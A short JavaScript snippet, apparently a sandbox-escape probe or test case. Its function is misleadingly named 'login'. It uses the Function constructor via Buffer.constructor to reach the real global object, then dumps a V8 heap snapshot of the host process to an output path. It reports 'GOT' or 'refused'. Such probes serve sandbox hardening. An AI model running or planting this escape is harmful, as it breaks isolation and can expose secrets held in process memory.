async function login(world) {
  const outside = Buffer.constructor('return globalThis')();
  try {
    outside.process.getBuiltinModule('v8').writeHeapSnapshot(world.outbox);
    return 'GOT';
  } catch { return 'refused'; }
}
